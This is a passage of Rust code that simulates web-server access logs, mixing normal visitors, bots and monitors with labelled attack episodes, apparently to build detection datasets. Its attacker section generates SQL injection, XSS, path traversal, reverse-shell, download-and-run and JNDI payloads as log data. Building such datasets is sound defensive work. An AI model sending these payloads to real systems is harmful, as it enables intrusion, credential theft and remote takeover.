                format!("/api/v1/orders/{o}"),
                200,
                Site::size(rng, u64::from(o), 1_200, 4_800),
            ),
        );
        if chance(rng, 0.5) {
            let u: u32 = rng.gen_range(1_000..57_000);
            out.push(
                t + 0.4,
                &desk,
                tag,
                Req::get(format!("/api/v1/users/{u}"), 200, 1_022),
            );
        }
        if chance(rng, 0.25) {
            out.push(
                t + rng.gen_range(30.0..400.0),
                &desk,
                tag,
                Req::post(format!("/api/v1/orders/{o}/refund"), 200, 342),
            );
        }
    }
    // A reseller's hand-written stock check.
    let reseller = job_client(residential_ip(rng), "curl/8.5.0", None);
    for t in arrivals(rng, end, 8.0, |t| clock.office(t)) {
        let mut s = t;
        for _ in 0..rng.gen_range(2..10) {
            let id = if chance(rng, 0.1) {
                *pick(rng, &site.retired)
            } else {
                site.product(rng)
            };
            let (st, b) = if site.retired.contains(&id) {
                (404, 48)
            } else {
                (200, Site::size(rng, u64::from(id), 1_500, 6_000))
            };
            out.push(
                s,
                &reseller,
                tag,
                Req::get(format!("/api/v1/products/{id}"), st, b),
            );
            s += rng.gen_range(1.0..6.0);
        }
    }
}

struct Bot {
    ua: &'static str,
    nets: &'static [(u8, u8, u8)],
    sessions_per_day: f64,
    pages_median: f64,
    gap_median: f64,
    obeys_robots: bool,
}

#[rustfmt::skip]
const BOTS: &[Bot] = &[
    Bot { ua: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", nets: &[(66, 249, 66), (66, 249, 68), (66, 249, 79)], sessions_per_day: 30.0, pages_median: 90.0, gap_median: 4.0, obeys_robots: true },
    Bot { ua: "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.6668.70 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", nets: &[(66, 249, 66), (66, 249, 68), (66, 249, 79)], sessions_per_day: 22.0, pages_median: 90.0, gap_median: 5.0, obeys_robots: true },
    Bot { ua: "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", nets: &[(40, 77, 167), (157, 55, 39), (207, 46, 13)], sessions_per_day: 20.0, pages_median: 70.0, gap_median: 6.0, obeys_robots: true },
    Bot { ua: "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", nets: &[(5, 255, 253), (213, 180, 203)], sessions_per_day: 5.0, pages_median: 40.0, gap_median: 9.0, obeys_robots: true },
    Bot { ua: "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", nets: &[(54, 36, 148), (51, 222, 253)], sessions_per_day: 6.0, pages_median: 60.0, gap_median: 3.0, obeys_robots: true },
    Bot { ua: "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", nets: &[(185, 191, 171)], sessions_per_day: 5.0, pages_median: 50.0, gap_median: 4.0, obeys_robots: true },
    Bot { ua: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)", nets: &[(17, 241, 75), (17, 241, 219)], sessions_per_day: 4.0, pages_median: 30.0, gap_median: 8.0, obeys_robots: true },
    Bot { ua: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", nets: &[(20, 171, 207)], sessions_per_day: 3.0, pages_median: 80.0, gap_median: 1.5, obeys_robots: true },
    // Ignores robots.txt and follows search links: a normal bot with attack-like coverage.
    Bot { ua: "Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)", nets: &[(114, 119, 132), (114, 119, 147)], sessions_per_day: 4.0, pages_median: 40.0, gap_median: 3.0, obeys_robots: false },
    Bot { ua: "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", nets: &[(20, 191, 45)], sessions_per_day: 2.0, pages_median: 20.0, gap_median: 10.0, obeys_robots: true },
];

fn crawl(out: &mut Out, site: &Site, rng: &mut StdRng, bot: &Bot, t0: f64) {
    let (a, b, c) = *pick(rng, bot.nets);
    let tag = Tag::normal("crawler");
    let ua: Rc<str> = Rc::from(bot.ua);
    let mut t = t0;
    let mut client = Client::new(
        &Rc::from(format!("{a}.{b}.{c}.{}", rng.gen_range(1..255))),
        &ua,
    );
    out.push(t, &client, tag, Req::get("/robots.txt", 200, 212));
    t += lognormal(rng, bot.gap_median, 0.5);
    if chance(rng, 0.4) {
        out.push(t, &client, tag, Req::get("/sitemap.xml", 200, 98_114));
        t += lognormal(rng, bot.gap_median, 0.5);
    }
    let n = lognormal(rng, bot.pages_median, 0.8).clamp(3.0, 2_000.0) as usize;
    for _ in 0..n {
        // Big crawlers spread one crawl over several addresses of their range.
        if chance(rng, 0.15) {
            client = Client::new(
                &Rc::from(format!("{a}.{b}.{c}.{}", rng.gen_range(1..255))),
                &ua,
            );
        }
        let r = rng.gen::<f64>();
        let req = if r < 0.55 {
            let id = if chance(rng, 0.04) {
                *pick(rng, &site.retired)
            } else {
                site.products[rng.gen_range(0..site.products.len())]
            };
            if site.retired.contains(&id) {
                Req::get(format!("/products/{id}"), 404, 5_114)
            } else if chance(rng, 0.1) {
                Req::get(format!("/products/{id}"), 304, 0)
            } else {
                Req::get(
                    format!("/products/{id}"),
                    200,
                    Site::size(rng, u64::from(id), 24_000, 38_000),
                )
            }
        } else if r < 0.75 {
            let slug = category(rng);
            let n = 1 + skewed(rng, 12, 1.5) as u32;
            let p = if n == 1 {
                format!("/category/{slug}")
            } else {
                format!("/category/{slug}?page={n}")
            };
            Req::get(
                p,
                200,
                Site::size(rng, mix(slug.len() as u64 + u64::from(n)), 30_000, 55_000),
            )
        } else if r < 0.85 {
            Req::get(
                format!("/blog/{}", pick(rng, BLOG)),
                200,
                Site::size(rng, 80, 14_000, 30_000),
            )
        } else if r < 0.9 {
            Req::get("/", 200, Site::size(rng, 1, 42_000, 52_000))
        } else if r < 0.93 {
            Req::get(format!("/shop/item.php?id={}", site.product(rng)), 301, 178)
        } else if r < 0.96 && !bot.obeys_robots {
            Req::get(
                format!("/search?q={}", form_encode(search_term(rng))),
                200,
                Site::size(rng, 81, 16_000, 48_000),
            )
        } else if r < 0.98 {
            let a = site.assets(t);
            Req::get(
                a[rng.gen_range(0..3)].clone(),
                200,
                ASSET_BYTES[usize::from(t >= site.deploy_at)][0],
            )
        } else {
            Req::get(
                *pick(rng, &["/about", "/blog", "/products"]),
                200,
                Site::size(rng, 82, 11_000, 40_000),
            )
        };
        out.push(t, &client, tag, req);
        t += lognormal(rng, bot.gap_median, 0.5);
    }
}

/// Chat apps and social networks fetching a shared link's preview.
fn preview(out: &mut Out, site: &Site, rng: &mut StdRng, t: f64) {
    let (ua, net) = *pick(
        rng,
        &[
            (
                "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
                (69u8, 171u8),
            ),
            (
                "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
                (3, 89),
            ),
            ("Twitterbot/1.0", (199, 16)),
            ("WhatsApp/2.23.20.0", (31, 13)),
            (
                "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
                (35, 227),
            ),
        ],
    );
    let c = Client::new(
        &Rc::from(format!(
            "{}.{}.{}.{}",
            net.0,
            net.1,
            rng.gen::<u8>(),
            rng.gen_range(1..255)
        )),
        &Rc::from(ua),
    );
    let tag = Tag::normal("crawler");
    let id = site.product(rng);
    if ua.starts_with("WhatsApp") {
        out.push(
            t,
            &c,
            tag,
            Req::new("HEAD", format!("/products/{id}"), 200, 0),
        );
    }
    out.push(
        t + 0.2,
        &c,
        tag,
        Req::get(
            format!("/products/{id}"),
            200,
            Site::size(rng, u64::from(id), 24_000, 38_000),
        ),
    );
    out.push(
        t + 0.6,
        &c,
        tag,
        Req::get(
            format!("/images/products/{id}.jpg"),
            200,
            Site::image_bytes(id, false),
        ),
    );
}

/// Uptime checks: the load balancer every 30 s, two external services every 60 s. They keep
/// their cadence at any traffic scale, and see the deploy window like everyone else.
fn monitors(out: &mut Out, site: &Site, rng: &mut StdRng) {
    let tag = Tag::normal("monitor");
    let end = out.end;
    let lb = job_client(Rc::from("10.0.1.17"), "ELB-HealthChecker/2.0", None);
    let robot_ips: Vec<Rc<str>> = (0..4)
        .map(|_| {
            Rc::from(format!(
                "216.144.{}.{}",
                rng.gen_range(248..252),
                rng.gen_range(1..255)
            ))
        })
        .collect();
    let pingdom_ips: Vec<Rc<str>> = (0..6)
        .map(|_| {
            Rc::from(format!(
                "{}.{}.{}.{}",
                *pick(rng, &[178u8, 185, 43, 76]),
                rng.gen::<u8>(),
                rng.gen::<u8>(),
                rng.gen_range(1..255)
            ))
        })
        .collect();
    let robot_ua: Rc<str> =
        Rc::from("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)");
    let pingdom_ua: Rc<str> = Rc::from("Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)");
    let health = |t: f64| {
        if site.deploying(t) {
            Req::get("/health", 503, 19)
        } else {
            Req::get("/health", 200, 15)
        }
    };
    let mut t = rng.gen_range(0.0..30.0);
    while t < end {
        out.push(t, &lb, tag, health(t));
        t += 30.0 + rng.gen_range(-0.05..0.05);
    }
    let mut t = rng.gen_range(0.0..60.0);
    while t < end {
        out.push(
            t,
            &Client::new(pick(rng, &robot_ips), &robot_ua),
            tag,
            health(t),
        );
        t += 60.0 + rng.gen_range(-0.5..0.5);
    }
    let mut t = rng.gen_range(0.0..60.0);
    while t < end {
        let r = if site.deploying(t) {
            Req::get("/", 502, 157)
        } else {
            Req::get("/", 200, Site::size(rng, 1, 42_000, 52_000))
        };
        out.push(
            t,
            &Client::new(pick(rng, &pingdom_ips), &pingdom_ua),
            tag,
            r,
        );
        t += 60.0 + rng.gen_range(-1.0..1.0);
    }
}

/// Feed readers poll the blog feed; it changes once a day at 10:00 local time, so almost
/// every poll is answered 304.
fn feed_readers(out: &mut Out, rng: &mut StdRng, clock: &Clock) {
    let tag = Tag::normal("feed-reader");
    let end = out.end;
    let readers: Vec<(Client, f64, bool)> = vec![
        (job_client(ipv4(rng, CLOUD), "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 412 subscribers; like FeedFetcher-Google)", None), 1800.0, false),
        (job_client(ipv4(rng, CLOUD), "Mozilla/5.0 (compatible; Inoreader/1.0; https://www.inoreader.com; 38 subscribers)", None), 3600.0, false),
        (job_client(ipv4(rng, CLOUD), "NewsBlur Feed Fetcher - 9 subscribers - https://www.newsblur.com/site/6190223/field-notes", None), 3600.0, false),
        (job_client(ipv4(rng, CLOUD), "Mozilla/5.0 (compatible; Miniflux/2.1.3; +https://miniflux.app)", None), 3600.0, false),
        (job_client(ipv4(rng, CLOUD), "Tiny Tiny RSS/23.04 (1111) (https://tt-rss.org/)", None), 1800.0, false),
        (job_client(residential_ip(rng), "NetNewsWire (RSS Reader; https://netnewswire.com/)", None), 3600.0, true),
    ];
    for (c, every, laptop) in &readers {
        let mut t = rng.gen_range(0.0..*every);
        let mut seen_day = i64::MIN;
        while t < end {
            // A laptop app only polls while its owner is awake.
            if !*laptop || clock.human(t) > 0.5 {
                let day = ((clock.start_sod + t - 36_000.0) / 86_400.0).floor() as i64;
                let r = if day != seen_day {
                    Req::get("/blog/feed.xml", 200, 45_870)
                } else {
                    Req::get("/blog/feed.xml", 304, 0)
                };
                seen_day = day;
                out.push(t, c, tag, r);
            }
            t += every + rng.gen_range(-20.0..20.0);
        }
    }
}

// ---------------------------------------------------------------------------------------------
// The run

/// Sessions per day at the busiest hour's rate, at scale 1 (tuned so a day is ~125k lines).
const BROWSER_SESSIONS: f64 = 4_500.0;
const CUSTOMER_SESSIONS: f64 = 500.0;
const APP_SESSIONS: f64 = 1_400.0;
const PREVIEWS: f64 = 160.0;

/// Everything attack generators need to blend in.
struct World<'a> {
    site: &'a Site,
    pop: &'a Population,
    clock: Clock,
    start: DateTime<FixedOffset>,
}

/// Generates the whole run. Never fails: a non-positive or non-finite `days` or `scale`
/// gives less (or no) traffic rather than an error.
pub fn simulate(cfg: &SimConfig) -> Vec<SimLine> {
    let end = cfg.days * 86_400.0;
    if !end.is_finite() || end <= 0.0 {
        return Vec::new();
    }
    let scale = if cfg.scale.is_finite() {
        cfg.scale.max(0.0)
    } else {
        0.0
    };
    let seed = cfg.seed;
    let clock = Clock::new(&cfg.start);
    let site = Site::new(&mut stream(seed, "site"), end);
    let pop = Population::new(&mut stream(seed, "population"), scale.max(0.01));
    let mut out = Out {
        evs: Vec::new(),
        end,
    };
    let peak = 1.12;

    let mut rng = stream(seed, "browser");
    for t in arrivals(&mut rng, end, BROWSER_SESSIONS * scale * peak, |t| {
        clock.human(t) / peak
    }) {
        browser_session(&mut out, &site, &pop, &mut rng, &clock, t);
    }
    let mut rng = stream(seed, "customer");
    for t in arrivals(&mut rng, end, CUSTOMER_SESSIONS * scale * peak, |t| {
        clock.human(t) / peak
    }) {
        customer_session(&mut out, &site, &pop, &mut rng, t);
    }
    let mut rng = stream(seed, "app");
    // Phones are used later in the evening than desktops.
    for t in arrivals(&mut rng, end, APP_SESSIONS * scale * peak, |t| {
        clock.human(t + 3_600.0) / peak
    }) {
        app_session(&mut out, &site, &pop, &mut rng, t);
    }
    let mut rng = stream(seed, "staff");
    let office = Rc::from(format!(
        "62.{}.{}.{}",
        rng.gen_range(100..160),
        rng.gen::<u8>(),
        rng.gen_range(2..250)
    ));
    let staff: Vec<Staff> = (0..4)
        .map(|i| Staff {
            ip: if i == 3 {
                residential_ip(&mut rng)
            } else {
                Rc::clone(&office)
            },
            ua: desktop_ua(&mut rng),
        })
        .collect();
    let mut exported_day = i64::MIN;
    for t in arrivals(&mut rng, end, 14.0, |t| clock.office(t)) {
        let who = pick(&mut rng, &staff);
        let day = ((clock.start_sod + t) / 86_400.0).floor() as i64;
        let export = day != exported_day && !clock.weekend(t);
        if export {
            exported_day = day;
        }
        staff_session(
            &mut out,
            &site,
            &mut rng,
            who,
            t,
            export.then_some(&cfg.start),
        );
    }
    integrations(
        &mut out,
        &site,
        &mut stream(seed, "integrations"),
        &clock,
        &cfg.start,
        scale,
    );
    let mut rng = stream(seed, "crawlers");
    for bot in BOTS {
        for t in arrivals(
            &mut rng,
            end,
            bot.sessions_per_day * 1.3 * scale.sqrt(),
            |_| 1.0,
        ) {
            crawl(&mut out, &site, &mut rng, bot, t);
        }
    }
    for t in arrivals(&mut rng, end, PREVIEWS * scale, |t| clock.human(t) / peak) {
        preview(&mut out, &site, &mut rng, t);
    }
    monitors(&mut out, &site, &mut stream(seed, "monitors"));
    feed_readers(&mut out, &mut stream(seed, "feeds"), &clock);

    let world = World {
        site: &site,
        pop: &pop,
        clock,
        start: cfg.start,
    };
    attack_episodes(
        &mut out,
        &world,
        &mut stream(seed, "attacks"),
        cfg.episodes_per_type,
        scale,
    );
    finish(out, &cfg.start)
}

/// Sorts by time (stable, so equal timestamps keep generation order and the output stays
/// deterministic) and renders each line, formatting each distinct second only once.
fn finish(mut out: Out, start: &DateTime<FixedOffset>) -> Vec<SimLine> {
    out.evs.sort_by_key(|e| e.ms);
    let mut lines = Vec::with_capacity(out.evs.len());
    let mut cached: (i64, String, DateTime<FixedOffset>) = (i64::MIN, String::new(), *start);
    for e in out.evs {
        let sec = e.ms.div_euclid(1000);
        if sec != cached.0 {
            let time = *start + chrono::Duration::seconds(sec);
            cached = (sec, time.format("%d/%b/%Y:%H:%M:%S %z").to_string(), time);
        }
        let mut line = String::with_capacity(200 + e.target.len());
        render(&e, &cached.1, &mut line);
        lines.push(SimLine {
            time: cached.2 + chrono::Duration::milliseconds(e.ms.rem_euclid(1000)),
            line,
            label: Label {
                attack: e.tag.attack,
                episode: e.tag.episode,
                actor: e.tag.actor.to_string(),
            },
        });
    }
    lines
}

// ---------------------------------------------------------------------------------------------
// Attackers

#[rustfmt::skip]
const TOOL_UAS: &[&str] = &[
    "curl/8.5.0", "curl/7.88.1", "python-requests/2.32.3", "python-requests/2.31.0",
    "Go-http-client/1.1", "Python/3.11 aiohttp/3.9.5", "Wget/1.21.4", "okhttp/4.12.0",
];

#[rustfmt::skip]
const SCANNER_UAS: &[&str] = &[
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0-dev",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/115.0.0.0 Safari/537.36 Nuclei",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0 zgrab/0.x",
];

/// An attacker's address and user-agent, drawn from the pools normal users come from. Some
/// sit behind a NAT address that customers share, a few even with a user-agent that a
/// customer behind the same address also sends.
fn attacker(rng: &mut StdRng, w: &World, tool_ua: Option<&[&str]>, tool_share: f64) -> Client {
    let r = rng.gen::<f64>();
    let mut ua = browser_ua(rng);
    let ip = if r < 0.28 {
        residential_ip(rng)
    } else if r < 0.42 {
        w.pop.mobile_ip(rng)
    } else if r < 0.72 {
        ipv4(rng, CLOUD)
    } else if r < 0.9 {
        let h = pick(rng, &w.pop.households);
        if chance(rng, 0.5) {
            ua = Rc::clone(pick(rng, &h.uas));
        }
        Rc::clone(&h.ip)
    } else if chance(rng, 0.5) {
        Rc::clone(&w.pop.corporate.ip)
    } else {
        Rc::clone(&w.pop.campus.ip)
    };
    let mut c = Client::new(&ip, &ua);
    if chance(rng, tool_share) {
        c.ua = Rc::from(*pick(rng, tool_ua.unwrap_or(TOOL_UAS)));
    } else if chance(rng, 0.5) {
        // A real browser (possibly behind an intercepting proxy); otherwise a script that
        // merely copies a browser's user-agent.
        c.proto = "HTTP/2.0";
    }
    c
}

/// Percent-encodes a payload the way different clients do. Browsers and form-encoding
/// libraries encode nearly everything; hand-made curl requests leave quotes and brackets raw;
/// some tools double-encode or use lower-case hex to slip past naive decoders.
fn encode(rng: &mut StdRng, v: &str) -> String {
    let style = rng.gen_range(0..10);
    let mut s = String::with_capacity(v.len() * 2);
    for &b in v.as_bytes() {
        let unreserved = b.is_ascii_alphanumeric() || b"-_.~".contains(&b);
        match style {
            // Form encoding (browser, python-requests params).
            0..=3 => {
                if unreserved {
                    s.push(b as char)
                } else if b == b' ' {
                    s.push('+')
                } else {
                    let _ = write!(s, "%{b:02X}");
                }
            }
            // Spaces only (hand-typed curl, Burp repeater): the rest goes on the wire raw.
            4..=6 => {
                if b == b' ' {
                    s.push_str("%20")
                } else if b == b'#' || b == b'&' || !(0x20..0x7f).contains(&b) {
                    let _ = write!(s, "%{b:02X}");
                } else {
                    s.push(b as char)
                }
            }
            // %20 and lower-case hex, reserved characters encoded (a generic encoder).
            7 | 8 => {
                if unreserved {
                    s.push(b as char)
                } else {
                    let _ = write!(s, "%{b:02x}");
                }
            }
            // Double encoding.
            _ => {
                if unreserved {
                    s.push(b as char)
                } else {
                    let _ = write!(s, "%25{b:02X}");
                }
            }
        }
    }
    s
}

fn token(rng: &mut StdRng, n: usize) -> String {
    (0..n)
        .map(|_| *pick(rng, b"abcdefghijklmnopqrstuvwxyz0123456789") as char)
        .collect()
}

/// Random upper/lower case per letter: `UnIoN sElEcT`.
fn mixed_case(rng: &mut StdRng, s: &str) -> String {
    s.chars()
        .map(|c| {
            if chance(rng, 0.5) {
                c.to_ascii_uppercase()
            } else {
                c.to_ascii_lowercase()
            }
        })
        .collect()
}

fn oast_host(rng: &mut StdRng) -> String {
    let t = token(rng, 12);
    let d = *pick(
        rng,
        &[
            "oast.fun",
            "oast.me",
            "interact.sh",
            "burpcollaborator.net",
            "dnslog.cn",
        ],
    );
    format!("{t}.{d}")
}

fn cloud_addr(rng: &mut StdRng) -> String {
    let (a, b) = *pick(rng, CLOUD);
    format!("{a}.{b}.{}.{}", rng.gen::<u8>(), rng.gen_range(1..255))
}

/// One SQL injection payload appended to `base` (the parameter's normal value). `step`
/// moves an episode through the usual phases: quote probes, column counting, then
/// union/error/time/blind payloads.
fn sqli_payload(rng: &mut StdRng, base: &str, step: usize) -> String {
    let numeric = base.bytes().all(|b| b.is_ascii_digit());
    let n = rng.gen_range(1000..9999);
    let s = rng.gen_range(2..10);
    if step < 2 && chance(rng, 0.7) {
        return format!(
            "{base}{}",
            pick(rng, &["'", "\"", "')", "`", "'\"", "\\", "%27"])
        );
    }
    let q = if numeric {
        ""
    } else {
        *pick(rng, &["'", "'", "\"", "')"])
    };
    let body = match rng.gen_range(0..11) {
        0 => format!(" OR {n}={n}"),
        1 => (*pick(
            rng,
            &[
                " OR 1=1",
                " or 'a'='a",
                " OR 2>1",
                " || 1=1",
                " AND 1=2",
                " aNd 1=1",
            ],
        ))
        .to_string(),
        2 => format!(" ORDER BY {}", step.clamp(1, 20)),
        3 | 4 => {
            let k = rng.gen_range(1..12);
            let leak = *pick(
                rng,
                &[
                    "NULL",
                    "@@version",
                    "user()",
                    "database()",
                    "version()",
                    "group_concat(email,0x3a,password_hash)",
                    "table_name",
                ],
            );
            let mut cols: Vec<String> = (0..k)
                .map(|i| {
                    if chance(rng, 0.5) {
                        "NULL".to_string()
                    } else {
                        (i + 1).to_string()
                    }
                })
                .collect();
            let at = rng.gen_range(0..k);
            cols[at] = leak.to_string();
            let from = if leak.contains("password") {
                " FROM users"
            } else if leak == "table_name" {
                " FROM information_schema.tables"
            } else {
                ""
            };
            format!(
                " {} {}{}",
                pick(
                    rng,
                    &[
                        "UNION SELECT",
                        "UNION ALL SELECT",
                        "union select",
                        "/*!50000UNION*/ /*!50000SELECT*/"
                    ]
                ),
                cols.join(","),
                from
            )
        }
        5 => match rng.gen_range(0..5) {
            0 => format!(" AND SLEEP({s})"),
            1 => format!(
                " AND (SELECT {n} FROM (SELECT(SLEEP({s}))){})",
                token(rng, 4)
            ),
            2 => format!("; WAITFOR DELAY '0:0:{s}'"),
            3 => format!(" AND {n}=(SELECT {n} FROM PG_SLEEP({s}))"),
            _ => format!(" AND BENCHMARK({}000000,MD5({n}))", s),
        },
        6 => match rng.gen_range(0..3) {
            0 => format!(
                " AND EXTRACTVALUE({n},CONCAT(0x5c,0x7171{:x},(SELECT version()),0x71))",
                rng.gen::<u16>()
            ),
            1 => " AND UPDATEXML(1,CONCAT(0x7e,(SELECT user()),0x7e),1)".to_string(),
            _ => " AND 1=CONVERT(int,(SELECT @@version))".to_string(),
        },
        7 | 8 => {
            let what = *pick(
                rng,
                &[
                    "database()",
                    "user()",
                    "(SELECT password_hash FROM users LIMIT 1)",
                    "version()",
                ],
            );
            format!(
                " AND ASCII(SUBSTRING({what},{},1))>{}",
                1 + step % 16,
                rng.gen_range(48..122)
            )
        }
        9 => format!(
            "; {}",
            pick(
                rng,
                &[
                    "DROP TABLE users",
                    "SELECT pg_sleep(5)",
                    "SHUTDOWN",
                    "EXEC xp_cmdshell('whoami')"
                ]
            )
        ),
        _ => format!(
            " AND {n}=CAST((CHR(113)||CHR(120)||CHR(118))||(SELECT version())::text AS NUMERIC)"
        ),
    };
    let tail = if q.is_empty() {
        *pick(rng, &["", "", "-- ", "#", "-- -"])
    } else {
        *pick(rng, &["-- ", "-- -", "#", "/*", " AND '1'='1", ";--"])
    };
    let mut p = format!("{base}{q}{body}{tail}");
    if chance(rng, 0.25) {
        p = mixed_case(rng, &p);
    }
    if chance(rng, 0.2) {
        let space: &str = pick::<&str>(rng, &["/**/", "\t", "\n", "/*x*/"]);
        p = p.replace(' ', space);
    }
    p
}

/// Reflected/stored XSS probes and payloads; an episode usually starts with a harmless
/// looking marker to find where input is reflected.
fn xss_payload(rng: &mut StdRng, marker: &str, step: usize) -> String {
    if step == 0 {
        return marker.to_string();
    }
    if step == 1 && chance(rng, 0.6) {
        return format!("{marker}'\"<>");
    }
    let f = *pick(rng, &["alert", "prompt", "confirm", "print", "alert"]);
    let a = match rng.gen_range(0..5) {
        0 => "1".to_string(),
        1 => "document.domain".to_string(),
        2 => "document.cookie".to_string(),
        3 => "String.fromCharCode(88,83,83)".to_string(),
        _ => format!("'{marker}'"),
    };
    let call = format!("{f}({a})");
    let p = match rng.gen_range(0..16) {
        0 => format!("<script>{call}</script>"),
        1 => format!("\"><script>{call}</script>"),
        2 => format!("'><svg/onload={call}>"),
        3 => format!("<img src=x onerror={call}>"),
        4 => format!("<svg onload={f}`1`>"),
        5 => format!("<body onload={call}>"),
        6 => format!("<details open ontoggle={call}>"),
        7 => format!("javascript:{call}"),
        8 => format!("\" onmouseover=\"{call}\" x=\""),
        9 => format!("</title><script>{call}</script>"),
        10 => format!("<iframe src=\"javascript:{call}\"></iframe>"),
        11 => format!("{{{{constructor.constructor('{call}')()}}}}"),
        12 => format!("<script src=//{}/x.js></script>", oast_host(rng)),
        13 => format!("<ScRiPt>{call}</sCrIpT>"),
        14 => format!("<scr<script>ipt>{call}</scr</script>ipt>"),
        _ => format!("<a href=\"jav&#x09;ascript:{call}\">{marker}</a>"),
    };
    if chance(rng, 0.15) {
        mixed_case(rng, &p)
    } else {
        p
    }
}

/// Path traversal / file inclusion. Returned already in wire form: the dot-dot segments carry
/// their own (often deliberately odd) encodings.
fn traversal_payload(rng: &mut StdRng) -> String {
    let target = *pick(
        rng,
        &[
            "etc/passwd",
            "etc/passwd",
            "etc/shadow",
            "etc/hosts",
            "proc/self/environ",
            "proc/self/cmdline",
            "windows/win.ini",
            "windows/system32/drivers/etc/hosts",
            "boot.ini",
            "var/www/html/.env",
            "app/.env",
            "var/log/nginx/access.log",
            "WEB-INF/web.xml",
            "root/.ssh/id_rsa",
            "home/deploy/.bash_history",
            "usr/local/etc/php/php.ini",
        ],
    );
    match rng.gen_range(0..12) {
        0 => format!("/{target}"),
        1 => format!("file:///{target}"),
        2 => format!(
            "php://filter/convert.base64-encode/resource={}",
            pick(rng, &["index.php", "config.php", "../config/database.php"])
        ),
        3 => format!("..;/..;/..;/{target}"),
        _ => {
            let seg = *pick(
                rng,
                &[
                    "../",
                    "../",
                    "..%2f",
                    "..%2F",
                    "%2e%2e%2f",
                    "%2e%2e/",
                    "..%252f",
                    "....//",
                    "..%5c",
                    "%2e%2e%5c",
                    "..%c0%af",
                    "%252e%252e%252f",
                    ".%2e/",
                    "..\\",
                ],
            );
            let depth = rng.gen_range(2..11);
            let suffix = *pick(
                rng,
                &["", "", "", "%00", "%00.pdf", "%00.jpg", "?", "%2500"],
            );
            let t = if seg.contains("5c") || seg.contains('\\') {
                target.replace('/', "\\")
            } else {
                target.to_string()
            };
            format!("{}{t}{suffix}", seg.repeat(depth))
        }
    }
}

/// OS command injection, code evaluation and template injection; `base` is the parameter's
/// normal value the payload is appended to.
fn rce_payload(rng: &mut StdRng, base: &str) -> String {
    let ip = cloud_addr(rng);
    let port = *pick(rng, &[4444u16, 1337, 8080, 9001, 443, 53]);
    let x = token(rng, 6);
    let cmd = match rng.gen_range(0..15) {
        0 => "id".to_string(),
        1 => "whoami".to_string(),
        2 => "uname -a".to_string(),
        3 => "cat /etc/passwd".to_string(),
        4 => format!("sleep {}", rng.gen_range(3..15)),
        5 => format!("ping -c {} {ip}", rng.gen_range(1..5)),
        6 => format!("wget http://{ip}/{x}.sh -O /tmp/{x}"),
        7 => format!("curl -s http://{ip}:{port}/{x}|sh"),
        8 => format!("nslookup {}", oast_host(rng)),
        9 => format!("echo {x}"),
        10 => format!("bash -i >& /dev/tcp/{ip}/{port} 0>&1"),
        11 => "cmd /c whoami".to_string(),
        12 => "type C:\\Windows\\win.ini".to_string(),
        13 => format!("busybox wget http://{ip}/bins/{x}.arm7"),
        _ => "ls -la /".to_string(),
    };
    let cmd = if chance(rng, 0.15) {
        cmd.replace(' ', "${IFS}")
    } else {
        cmd
    };
    match rng.gen_range(0..14) {
        0..=2 => format!(
            "{base}{}{cmd}",
            pick(rng, &[";", "|", "||", "&&", "&", "\n", ";\n"])
        ),
        3 => format!("{base}`{cmd}`"),
        4 => format!("{base}$({cmd})"),
        5 => format!("{base}|{cmd}|"),
        6 => format!("<?php system('{cmd}'); ?>"),
        7 => format!("{base}';system('{cmd}');'"),
        8 => (*pick(
            rng,
            &["{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{7*'7'}}"],
        ))
        .to_string(),
        9 => format!("{{{{config.__class__.__init__.__globals__['os'].popen('{cmd}').read()}}}}"),
        10 => format!("${{jndi:ldap://{ip}:1389/{x}}}"),
        11 => format!(
            "${{${{lower:j}}ndi:${{lower:l}}dap://{}/a}}",
            oast_host(rng)
        ),
        12 => format!("__import__('os').system('{cmd}')"),
        _ => format!("{base}%0a{cmd}"),
    }
}

/// Where a payload goes: a URL template with `{}` for the encoded payload and the value the
/// parameter normally carries.
struct Point {
    template: String,
    normal: String,
    in_path: bool,
}

fn point(template: impl Into<String>, normal: impl Into<String>, in_path: bool) -> Point {
    Point {
        template: template.into(),
        normal: normal.into(),
        in_path,
    }
}

fn injection_points(rng: &mut StdRng, w: &World, kind: AttackKind) -> Vec<Point> {
    let id = w.site.product(rng);
    let slug = category(rng);
    let term = form_encode(search_term(rng));
    let order: u32 = rng.gen_range(30_000..48_000);
    let all = match kind {
        AttackKind::Sqli => vec![
            point("/search?q={}", term.as_str(), false),
            point("/products?sort={}", "price_asc", false),
            point(format!("/category/{slug}?page={{}}"), "2", false),
            point("/api/v1/products?page=1&limit={}", "20", false),
            point("/api/v1/products/{}", id.to_string(), true),
